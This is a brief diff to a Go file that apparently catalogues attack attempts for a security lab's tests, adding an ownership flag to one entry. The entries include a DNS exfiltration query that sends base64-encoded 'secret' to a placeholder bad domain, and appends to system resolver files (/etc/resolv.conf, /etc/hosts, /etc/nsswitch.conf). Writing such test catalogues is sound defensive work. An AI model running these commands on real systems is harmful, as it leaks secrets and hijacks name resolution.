@@ -114,7 +114,7 @@ func answerAttacks() []Attack {
 		{ID: "E19", Title: "the engine's own DNS",
 			Try:   []string{"dns {engine-dns}:53 c2VjcmV0.{bad} A", "dns -tcp {engine-dns}:53 c2VjcmV0.{bad} A"},
 			Tests: []string{"TestLabE19EngineResolver"}},
-		{ID: "E20", Title: "edited files of the resolver", Won: true,
+		{ID: "E20", Title: "edited files of the resolver", Own: true, Won: true,
 			Try:   []string{"write -append -data # /etc/resolv.conf", "write -append -data # /etc/hosts", "write -append -data # /etc/nsswitch.conf"},
 			Tests: []string{"TestLabE20ResolverFiles"}},
 	}
